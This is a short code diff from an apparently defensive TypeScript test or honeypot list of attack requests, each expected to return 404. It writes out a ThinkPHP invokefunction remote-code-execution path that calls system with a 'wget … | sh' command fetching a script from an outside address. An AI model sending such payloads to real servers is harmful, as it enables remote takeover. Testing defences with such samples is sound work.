@@ -10,7 +10,7 @@ const download = 'wget+-qO-+http://192.0.2.240/t.sh|sh';
 const attacks: readonly [Attack, ...Attack[]] = [
   [
     'GET',
-    `/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=${download}`,
+    `/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=${download}`,
     404,
     robot,
   ],
